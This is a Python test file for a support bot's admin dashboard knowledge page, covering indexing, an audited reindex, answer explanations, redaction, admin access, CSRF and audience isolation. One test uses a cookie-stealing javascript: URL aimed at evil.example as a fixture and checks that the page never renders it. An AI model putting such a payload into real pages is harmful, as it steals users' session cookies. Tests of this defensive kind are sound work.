"""The dashboard's knowledge page over loopback against a real store and knowledge folder: the
indexed files, the unreadable and skipped ones with why, Reindex as `/support reindex` does
it (audited), and "why did it answer that?" agreeing with `supportbot ask --json`; admins
only, CSRF on the change, and read-only but still searchable when standalone."""

from __future__ import annotations

import asyncio
import html
import io
import json
import re
from collections.abc import AsyncIterator, Callable
from functools import partial
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient, TestServer
from markupsafe import escape
from typer.testing import CliRunner

from adapters.console import ConsoleChannel
from bot.app import Runtime
from bot.cli import app as cli_app
from bot.dashboard.app import build_app
from bot.dashboard.serve import dashboard_for
from bot.knowledge_reader import open_for_reading
from tests.bot.dashboard.served import CONFIG, start
from tests.bot.dashboard.test_dashboard import csrf_of, link_token, sign_in
from tests.fakes.clock import FakeClock

Client = TestClient  # type: ignore[type-arg]
NEW_DOC = """\
# Exporting invoices

Open Billing, then Invoices, and press Export CSV to download every invoice of the year.
"""


@pytest.fixture
def rt(make_runtime: Callable[..., Runtime], knowledge_dir: Path) -> Runtime:
    (knowledge_dir / "binary.md").write_bytes(b"\x00\x01\x02garbage")  # unreadable: said why
    (knowledge_dir / "_build").mkdir()
    (knowledge_dir / "_build" / "page.md").write_text("# Built\n", encoding="utf-8")  # skipped
    return make_runtime(CONFIG)


@pytest.fixture
async def client(rt: Runtime, clock: FakeClock) -> AsyncIterator[Client]:
    c = await start(rt, clock, ConsoleChannel(io.StringIO()))
    yield c
    await c.close()


async def standalone(rt: Runtime, clock: FakeClock, *, reader: bool = True) -> Client:
    """The dashboard as `supportbot dashboard` serves it: no core, the index opened for reading."""
    opener = partial(open_for_reading, rt.settings, rt.store, clock) if reader else None
    client = TestClient(
        TestServer(await build_app(dashboard_for(rt.settings, rt.store, clock, reader=opener)))
    )
    await client.start_server()
    return client


def rows(page: str, attribute: str) -> list[str]:
    return [html.unescape(v) for v in re.findall(rf'{attribute}="([^"]*)"', page)]


def verdict(page: str) -> dict[str, str]:
    found = re.search(r'data-abstained="(\w+)" data-confidence="([\d.]+)" data-answerer="(\w+)"', page)
    assert found, page
    return {"abstained": found.group(1), "confidence": found.group(2), "answerer": found.group(3)}


def ranked(page: str) -> list[tuple[str, float]]:
    return [
        (html.unescape(path), float(score))
        for path, score in re.findall(r'data-path="([^"]*)" data-score="([\d.]+)"', page)
    ]


async def test_an_admin_sees_the_files_the_unreadable_and_skipped_ones_and_the_last_sync(
    rt: Runtime, clock: FakeClock, client: Client
) -> None:
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    page = await (await client.get("/admin/knowledge")).text()
    catalog = {f.path: f for f in rt.knowledge.catalog.indexed_files()}
    indexed = rows(page, "data-file")
    assert sorted(indexed) == sorted(p for p, f in catalog.items() if f.error is None)
    assert "internal/oncall.md" in indexed and "Connecting Slack" in page and "On-call runbook" in page
    chunks = [int(n) for n in re.findall(r"<td data-chunks>(\d+)</td>", page)]
    assert sum(chunks) == sum(f.chunks for f in catalog.values()) > 0
    assert rows(page, "data-unreadable") == ["binary.md"] and "binary file" in page
    assert rows(page, "data-skipped") == ["_build/"] and "build output" in page
    last_sync = re.search(r"<span data-last-sync>([^<]+)</span>", page)
    assert last_sync and last_sync.group(1).startswith("20")  # an ISO time, not "never"
    assert 'href="https://docs.example.com/slack"' in page  # a file published somewhere links there
    assert 'action="/admin/knowledge/reindex"' in page and "Read-only" not in page


async def test_reindex_picks_up_a_new_file_and_is_audited(
    rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path
) -> None:
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    assert "invoices.md" not in rows(await (await client.get("/admin/knowledge")).text(), "data-file")
    (knowledge_dir / "invoices.md").write_text(NEW_DOC, encoding="utf-8")
    csrf = await csrf_of(client, "/admin/knowledge")
    response = await client.post("/admin/knowledge/reindex", data={"csrf": csrf})
    page = await response.text()
    assert response.status == 200 and "Knowledge folder synced: 1 added" in page
    assert "invoices.md" in rows(page, "data-file")
    audit = rt.state.audit_log()[0]
    assert (audit.action, audit.user_id) == ("knowledge reindex", "U-ADMIN")
    assert audit.detail.startswith("Knowledge folder synced: 1 added")
    # the running bot answers from it at once
    why = await (await client.get("/admin/knowledge/why", params={"q": "How do I export invoices?"})).text()
    assert ranked(why)[0][0] == "invoices.md" and verdict(why)["abstained"] == "false"


@pytest.mark.parametrize(
    "question", ["How do I reset my password?", "What is the capital of Mongolia in 1820?"]
)
async def test_why_shows_what_supportbot_ask_would_answer(
    rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path, question: str
) -> None:
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    page = await (await client.get("/admin/knowledge/why", params={"q": question})).text()
    args = ["ask", question, "--json", "--config", str(rt.settings.config_path)]
    args += ["--data", str(rt.settings.data_dir), "--knowledge", str(knowledge_dir)]
    # the CLI runs its own event loop: on a thread, as from a terminal beside the bot
    result = await asyncio.to_thread(CliRunner().invoke, cli_app, args)
    assert result.exit_code == 0, result.output
    cli = json.loads(result.output.strip().splitlines()[-1])
    shown = verdict(page)
    assert shown == {
        "abstained": "true" if cli["abstained"] else "false",
        "confidence": f"{cli['confidence']:.4f}",
        "answerer": cli["answerer"],
    }
    best: dict[str, float] = {}
    for path, score in ranked(page):
        best.setdefault(path, score)
    assert [(p["path"], p["score"]) for p in cli["passages"]] == [
        (path, round(score, 4)) for path, score in list(best.items())[:10]
    ]
    if cli["abstained"]:
        assert "would go to a person" in page
    else:
        assert cli["sources"] and str(escape(cli["answer"].splitlines()[0])) in page
        assert ranked(page)[0][0] == "password-reset.md"


async def test_why_redacts_the_question_as_support_ask_does(
    rt: Runtime, clock: FakeClock, client: Client
) -> None:
    # the question may reach the model: `[privacy] redact` (card by default) hides it first
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    page = await (await client.get("/admin/knowledge/why", params={"q": "refund 4111 1111 1111 1111"})).text()
    assert "4111" not in page and "refund [card]" in page


async def test_a_documents_url_is_a_link_only_to_a_web_page(
    rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path
) -> None:
    # `url:` front matter is anyone's with the folder: a javascript: one must not run on click
    for name, url in (
        ("evil", "javascript:fetch('https://evil.example/?c='+document.cookie)"),
        ("tabbed", "java\tscript:alert(1)"),
        ("site", "https://docs.example.com/export"),
    ):
        front = f"---\ntitle: Exporting {name}\nurl: {json.dumps(url)}\n---\n"
        (knowledge_dir / f"{name}.md").write_text(front + f"# Exporting {name}\n\nPress Export.\n", "utf-8")
    await rt.bot.knowledge.reindex()
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    for path in ("/admin/knowledge", "/admin/knowledge/why?q=exporting+evil+tabbed+site"):
        page = await (await client.get(path)).text()
        assert "script:" not in page, path
        assert '<a href="https://docs.example.com/export">site.md</a>' in page, path


async def test_the_knowledge_page_is_for_admins_and_its_change_needs_the_csrf_token(
    rt: Runtime, clock: FakeClock, client: Client, knowledge_dir: Path
) -> None:
    routes = [
        ("GET", "/admin/knowledge"),
        ("GET", "/admin/knowledge/why?q=x"),
        ("POST", "/admin/knowledge/reindex"),
    ]
    for method, path in routes:
        response = await client.request(method, path, allow_redirects=False)
        assert response.status == 302 and response.headers["Location"] == "/admin/signin", path
    refused = await client.post("/admin/signin", data={"token": link_token(rt, clock, "U-NOBODY")})
    assert refused.status == 403 and "oncall.md" not in await refused.text()
    assert await sign_in(client, link_token(rt, clock, "U-SAM")) == 302  # staff
    assert 'href="/admin/knowledge"' not in await (await client.get("/admin/tickets")).text()
    csrf = await csrf_of(client, "/admin/tickets")
    for method, path in routes:
        response = await client.request(method, path, data={"csrf": csrf} if method == "POST" else None)
        assert response.status == 403 and "oncall.md" not in await response.text(), path
    client.session.cookie_jar.clear()
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    assert 'href="/admin/knowledge"' in await (await client.get("/admin/tickets")).text()
    (knowledge_dir / "invoices.md").write_text(NEW_DOC, encoding="utf-8")
    for data in ({}, {"csrf": "forged"}):
        assert (await client.post("/admin/knowledge/reindex", data=data)).status == 403
    assert "invoices.md" not in {f.path for f in rt.knowledge.catalog.indexed_files()}
    assert [e.action for e in rt.state.audit_log()] == ["signin", "signin", "signin refused"]


async def test_an_admin_of_one_workspace_does_not_read_every_audiences_documents(
    make_runtime: Callable[..., Runtime], clock: FakeClock, knowledge_dir: Path
) -> None:
    # the page lists and searches every document, any audience's: for the admins of all
    (knowledge_dir / "payroll.md").write_text(
        "---\ntitle: Payroll bonus schedule\naudience: [finance]\n---\n# Payroll bonus schedule\n\n"
        "The executive bonus pool for Q4 is 4.2 million, paid on the 15th of January.\n",
        encoding="utf-8",
    )
    toml = (
        CONFIG
        + '[audiences.finance]\nslack_users = ["U-CFO"]\n[slack.workspaces.T2]\nadmin_users = ["U-T2", "U-ADMIN"]\n'
    )
    rt = make_runtime(toml)
    client = await start(rt, clock, ConsoleChannel(io.StringIO()))
    try:
        await rt.bot.knowledge.reindex()
        assert await sign_in(client, link_token(rt, clock, "U-T2")) == 302  # an admin of T2 only
        csrf = await csrf_of(client, "/admin/tickets")
        for method, path in (
            ("GET", "/admin/knowledge"),
            ("GET", "/admin/knowledge/why?q=executive+bonus+pool+payroll"),
            ("POST", "/admin/knowledge/reindex"),
        ):
            response = await client.request(method, path, data={"csrf": csrf} if method == "POST" else None)
            page = await response.text()
            assert response.status == 403 and "4.2 million" not in page and "payroll" not in page.lower(), (
                path
            )
        client.session.cookie_jar.clear()
        assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302  # of every workspace
        page = await (await client.get("/admin/knowledge/why?q=executive+bonus+pool+payroll")).text()
        assert "4.2 million" in page
    finally:
        await client.close()


async def test_standalone_reads_the_index_and_answers_but_does_not_reindex(
    rt: Runtime, clock: FakeClock, knowledge_dir: Path
) -> None:
    client = await standalone(rt, clock)
    try:
        assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
        page = await (await client.get("/admin/knowledge")).text()
        assert "Read-only" in page and "/admin/knowledge/reindex" not in page
        assert "refunds.md" in rows(page, "data-file") and rows(page, "data-unreadable") == ["binary.md"]
        why = await (await client.get("/admin/knowledge/why", params={"q": "How do refunds work?"})).text()
        assert ranked(why)[0][0] == "refunds.md" and verdict(why)["answerer"] == "extractive"
        (knowledge_dir / "invoices.md").write_text(NEW_DOC, encoding="utf-8")
        csrf = await csrf_of(client, "/admin/knowledge")
        assert (await client.post("/admin/knowledge/reindex", data={"csrf": csrf})).status == 409
        assert "invoices.md" not in {f.path for f in rt.knowledge.catalog.indexed_files()}
    finally:
        await client.close()


async def test_standalone_without_an_index_says_so(
    make_runtime: Callable[..., Runtime], clock: FakeClock, tmp_path: Path
) -> None:
    rt = make_runtime(CONFIG)
    moved = rt.settings.data_dir / "index-elsewhere"
    (rt.settings.data_dir / "index").rename(moved)  # as on a machine where nothing was indexed
    client = await standalone(rt, clock)
    try:
        assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
        page = await (await client.get("/admin/knowledge")).text()
        assert "could not be opened here" in page and "run supportbot index" in page
        why = await client.get("/admin/knowledge/why", params={"q": "refunds"})
        assert why.status == 200 and "run supportbot index" in await why.text()
        moved.rename(rt.settings.data_dir / "index")  # indexed since: the next view opens it
        assert "refunds.md" in rows(await (await client.get("/admin/knowledge")).text(), "data-file")
    finally:
        await client.close()
    client = await standalone(rt, clock, reader=False)  # embedded without a way to read the index
    try:
        assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
        page = await (await client.get("/admin/knowledge")).text()
        assert "without a way to read the index" in page and 'data-file="' not in page
    finally:
        await client.close()


async def test_the_knowledge_pages_read_in_korean(rt: Runtime, clock: FakeClock, client: Client) -> None:
    assert await sign_in(client, link_token(rt, clock, "U-ADMIN")) == 302
    korean = {"Accept-Language": "ko-KR"}
    page = await (await client.get("/admin/knowledge", headers=korean)).text()
    assert "색인된 파일" in page and "다시 색인" in page and "색인되지 않은 파일과 그 이유" in page
    why = await (
        await client.get("/admin/knowledge/why", params={"q": "환불은 어떻게 받나요?"}, headers=korean)
    ).text()
    assert "봇이 할 일" in why and ranked(why)[0][0] == "faq-ko.md"
